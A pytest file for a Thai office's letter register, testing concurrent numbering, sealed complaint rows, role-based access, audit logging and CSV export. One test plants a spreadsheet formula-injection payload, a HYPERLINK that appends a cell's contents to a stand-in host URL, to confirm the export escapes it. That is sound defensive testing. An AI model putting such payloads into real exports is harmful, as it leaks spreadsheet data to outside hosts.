"""The office's letter registers: numbers drawn once under concurrent issue, from 1 each
Buddhist-Era year; complaint rows sealed and shown only to the roles that read personal
data; the CSV export."""

from __future__ import annotations

import csv
import io
import threading
from datetime import date

import pytest
from sqlalchemy import select

from engine.core.errors import Forbidden, InvalidData
from engine.core.models import AuditEvent, RegisterCounter, RegisterEntry
from engine.services.inbox import instances
from engine.services.registry import listing
from engine.services.registry.entries import Letter, issue_outgoing_number, register_incoming
from tests.conftest import make_runtime
from tests.samples import COMPLAINT, SECRETS

pytestmark = pytest.mark.usefixtures("sample_day")  # files tests/samples.py COMPLAINT

ISSUERS = 16
EACH = 5
OFFICE_LETTER = Letter(subject="ขอเชิญประชุม", party="ผู้อำนวยการโรงเรียนบ้านตัวอย่าง",
                       letter_kind="memo")


def _issue(rt, letter=OFFICE_LETTER, on=date(2026, 12, 4), actor=None):
    with rt.db.write() as session:
        return issue_outgoing_number(session, rt.cipher, letter, on=on, actor=actor)


def test_concurrent_issuers_on_postgresql_never_share_a_number(tmp_path, pg_url):
    rt = make_runtime(tmp_path, pg_url)
    try:
        barrier = threading.Barrier(ISSUERS)
        drawn: list[int] = []
        errors: list[str] = []

        def issuer() -> None:
            barrier.wait()
            try:
                for _ in range(EACH):
                    drawn.append(_issue(rt).number)
            except Exception as exc:  # noqa: BLE001 - any failure fails the test below
                errors.append(repr(exc))

        threads = [threading.Thread(target=issuer) for _ in range(ISSUERS)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert errors == []
        total = ISSUERS * EACH
        # Every number once, with no gap: 1..80 of 2569.
        assert sorted(drawn) == list(range(1, total + 1))
        with rt.db.read() as session:
            kept = session.scalars(select(RegisterEntry.number).where(
                RegisterEntry.register == "outgoing", RegisterEntry.year == 2569)).all()
            assert sorted(kept) == list(range(1, total + 1))
            assert session.get(RegisterCounter, ("outgoing", 2569)).last_number == total
    finally:
        rt.close()


def test_a_refused_command_takes_its_number_back_and_nothing_is_reused(runtime):
    assert _issue(runtime).number == 1
    with pytest.raises(RuntimeError), runtime.db.write() as session:
        issue_outgoing_number(session, runtime.cipher, OFFICE_LETTER, on=date(2026, 12, 4),
                              actor=None)
        raise RuntimeError("the step is refused after the number was drawn")
    # The refused command's number was never issued: the next committed one follows 1.
    assert _issue(runtime).number == 2
    with runtime.db.read() as session:
        assert session.scalars(select(RegisterEntry.number)).all() == [1, 2]


def test_numbers_run_from_one_each_buddhist_era_year_and_per_register(runtime):
    assert [_issue(runtime).number for _ in range(3)] == [1, 2, 3]
    with runtime.db.write() as session:
        received = register_incoming(session, runtime.cipher, OFFICE_LETTER,
                                     on=date(2026, 12, 4), actor=None)
    assert (received.register, received.number, received.label) == ("incoming", 1, "1/2569")
    new_year = _issue(runtime, on=date(2027, 1, 1))
    assert (new_year.year, new_year.number, new_year.label) == (2570, 1, "1/2570")
    assert _issue(runtime, on=date(2026, 12, 31)).label == "4/2569"


def test_a_letter_or_visit_gets_a_received_number_and_a_web_complaint_none(runtime, people):
    officer = people.legal_officer
    by_letter = instances.start_instance(runtime, officer, "complaint", {
        **COMPLAINT, "letter_date": "2026-12-01", "letter_no": "ร 1/2569"})
    visit = instances.start_instance(runtime, officer, "complaint",
                                     {**COMPLAINT, "channel": "in_person"})
    instances.start_instance(runtime, officer, "complaint", {**COMPLAINT, "channel": "website"})
    rows = listing.list_register(runtime, officer, "incoming")
    assert [(r["number"], r["instance_id"], r["letter_kind"]) for r in rows] == [
        (1, by_letter["id"], "letter"), (2, visit["id"], "in_person")]
    first = rows[0]
    assert first["entry_date"] == COMPLAINT["received_at"]  # the day it arrived
    assert (first["letter_date"], first["letter_ref"]) == ("2026-12-01", "ร 1/2569")
    assert first["party"] == COMPLAINT["complainant_name"]
    assert first["subject"] == COMPLAINT["subject"] and first["registered_by"] == officer.username
    # Sealed in the database: the sender is the complainant.
    with runtime.db.read() as session:
        stored = session.scalars(select(RegisterEntry)).all()
    for row in stored:
        assert row.confidential and row.sealed and row.party == "" and row.subject == ""
        for secret in SECRETS:
            assert secret.encode() not in row.sealed
    # The case page's view shows the number.
    view = instances.get_instance(runtime, officer, by_letter["id"])
    assert view["received_number"] == "1/2569"


def test_an_anonymous_letter_is_registered_from_the_anonymous_complainant(runtime, people):
    anonymous = {k: v for k, v in COMPLAINT.items() if not k.startswith("complainant_")}
    instances.start_instance(runtime, people.legal_officer, "complaint", anonymous)
    [row] = listing.list_register(runtime, people.legal_officer, "incoming")
    assert row["party"] == "ผู้ร้องเรียน (ไม่ประสงค์ออกนาม)"


def test_complaint_rows_are_for_legal_affairs_and_the_director_only(runtime, people):
    instances.start_instance(runtime, people.legal_officer, "complaint", COMPLAINT)
    _issue(runtime)  # a letter of the office that is not a complaint's
    for reader in (people.legal_officer, people.legal_head, people.director):
        rows = listing.list_register(runtime, reader, "incoming")
        assert [r["party"] for r in rows] == [COMPLAINT["complainant_name"]]
    # An administrator sees the office's other letters, never a complaint's.
    assert listing.list_register(runtime, people.admin, "incoming") == []
    [other] = listing.list_register(runtime, people.admin, "outgoing")
    assert other["party"] == OFFICE_LETTER.party and not other["confidential"]
    for outsider in (people.staff, people.web_admin, people.ict_head):
        with pytest.raises(Forbidden):
            listing.list_register(runtime, outsider, "incoming")
    # Each listing that opened complaint rows is in the audit log, by row, never by text.
    with runtime.db.read() as session:
        reads = session.scalars(select(AuditEvent).where(
            AuditEvent.action == listing.READ_ACTION)).all()
    assert sorted(e.actor_name for e in reads) == ["director", "legal_head", "legal_officer"]
    assert all(COMPLAINT["complainant_name"] not in repr(e.detail) for e in reads)


def test_filters_by_year_and_dates_and_refuses_bad_ones(runtime, people):
    for day in (date(2026, 12, 1), date(2026, 12, 20), date(2027, 1, 5)):
        _issue(runtime, on=day)
    admin = people.admin

    def numbers(**typed) -> list[str]:
        filters = listing.filters_from(typed)
        return [r["label"] for r in listing.list_register(runtime, admin, "outgoing", filters)]

    assert numbers(year="2569") == ["1/2569", "2/2569"]
    assert numbers(year="2570") == ["1/2570"]
    assert numbers(date_from="10/12/2569", date_to="2027-01-31") == ["2/2569", "1/2570"]
    with pytest.raises(InvalidData) as refused:
        listing.filters_from({"year": "2026x", "date_from": "31/02/2569"})
    assert set(refused.value.fields) == {"year", "date_from"}


def test_the_csv_keeps_numbers_as_numbers_and_no_text_as_a_formula(runtime, people):
    instances.start_instance(runtime, people.legal_officer, "complaint", {
        **COMPLAINT, "subject": '=HYPERLINK("http://x.example/?"&A1,"ดู")',
        "letter_no": "-1+2", "letter_date": "2026-12-01"})
    rows = listing.list_register(runtime, people.legal_officer, "incoming")
    text = listing.register_csv("incoming", rows)
    title, header, row = list(csv.reader(io.StringIO(text)))
    assert title == ["ทะเบียนหนังสือรับ"] and header[0] == "เลขทะเบียนรับ"
    assert row[0] == "1" and row[1] == "2569"  # numbers, not "'1"
    assert row[3] == "'-1+2" and row[6].startswith("'=HYPERLINK")
    assert row[2] == "4 ธันวาคม 2569" and row[4] == "1 ธันวาคม 2569"
    assert listing.register_csv_bytes("incoming", rows).startswith("\ufeff".encode())


def test_a_letter_dated_after_it_arrived_is_refused_and_nothing_is_registered(runtime, people):
    with pytest.raises(InvalidData) as refused:
        instances.start_instance(runtime, people.legal_officer, "complaint",
                                 {**COMPLAINT, "letter_date": "2026-12-05"})
    assert "letter_date" in refused.value.fields
    with runtime.db.read() as session:
        assert session.scalars(select(RegisterEntry)).all() == []
        assert session.scalars(select(RegisterCounter)).all() == []
